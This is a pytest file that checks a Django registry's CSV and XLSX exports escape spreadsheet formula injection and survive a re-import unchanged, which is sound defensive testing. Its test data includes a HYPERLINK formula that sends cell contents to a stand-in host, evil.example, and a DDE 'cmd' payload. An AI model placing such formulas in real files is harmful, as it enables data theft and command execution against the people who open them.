"""Text that a spreadsheet would run as a formula is written as text in every CSV the registry
writes — the API's export and the admin's — and an exported file imported again changes
nothing."""

import csv
import io

import openpyxl
import pytest

from elmo.formulas import neutralise, restore
from platforms.models import InnovationPlatform

from .conftest import export, read_csv, signed_in, upload

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
# Stored text -> as a CSV cell holds it.
CELLS = {
    HYPERLINK: "'" + HYPERLINK,
    "+358 29 448 0000": "'+358 29 448 0000",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
    "'=1 written by hand": "''=1 written by hand",
    "'": "''",
    "It's =1": "It's =1",
    "Kajaani": "Kajaani",
    "": "",
    "-5": "-5",
    "+3.25": "+3.25",
    "-65,5": "-65,5",
}


@pytest.mark.parametrize(("text", "cell"), CELLS.items())
def test_formula_characters_are_quoted_and_the_quote_is_removed_on_reading(text, cell):
    assert neutralise(text) == cell
    assert restore(cell) == text


def test_numbers_and_missing_values_are_left_alone():
    for value in (None, -5, 65.01236, 2014):
        assert neutralise(value) == value
    assert restore("'hello") == "'hello"  # a quote the export did not add stays


@pytest.fixture
def formula_platform():
    platform = InnovationPlatform.objects.published().order_by("pk").first()
    platform.name_fi = HYPERLINK
    platform.summary_en = "-2+3+cmd|' /C calc'!A0"
    platform.keywords_fi = "@SUM(1+1)"
    platform.town_sv = "'=1 written by hand"
    platform.contact_phone = "+358 29 448 0000"
    platform.save()
    return platform


def test_the_api_csv_export_writes_formulas_as_text(api, formula_platform):
    response = api.get("/api/v1/platforms/", {"format": "csv"})
    body = b"".join(response.streaming_content) if response.streaming else response.content
    rows = csv.DictReader(io.StringIO(body.decode()))
    [row] = [r for r in rows if r["slug"] == formula_platform.slug]
    assert row["name_fi"] == "'" + HYPERLINK
    assert row["summary_en"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["keywords_fi"] == "'@SUM(1+1)"
    assert row["contact_phone"] == "'+358 29 448 0000"
    assert float(row["latitude"]) == float(formula_platform.latitude)


def test_the_admin_csv_export_writes_formulas_as_text(client, superuser, formula_platform):
    content = export(signed_in(client, superuser), InnovationPlatform).content
    [row] = [r for r in read_csv(content) if r["slug"] == formula_platform.slug]
    assert row["name_fi"] == "'" + HYPERLINK
    assert row["town_sv"] == "''=1 written by hand"
    assert row["contact_phone"] == "'+358 29 448 0000"
    assert row["latitude"] == str(formula_platform.latitude)


def test_the_admin_xlsx_export_keeps_formulas_as_text_cells(client, superuser, formula_platform):
    content = export(signed_in(client, superuser), InnovationPlatform, file_format="xlsx").content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    [row] = [r for r in sheet.iter_rows(min_row=2) if r[0].value == formula_platform.slug]
    cell = row[header.index("name_fi")]
    assert cell.value == HYPERLINK and cell.data_type == "s"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_formulas_survive_a_round_trip_unchanged(client, superuser, formula_platform, file_format):
    client = signed_in(client, superuser)
    content = export(client, InnovationPlatform, file_format=file_format).content
    preview = upload(client, InnovationPlatform, content, file_format=file_format)
    assert preview.context["problems"] == []
    assert {row.import_type for row in preview.context["preview"]} == {"skip"}
    stored = InnovationPlatform.objects.get(pk=formula_platform.pk)
    assert (stored.name_fi, stored.town_sv) == (HYPERLINK, "'=1 written by hand")
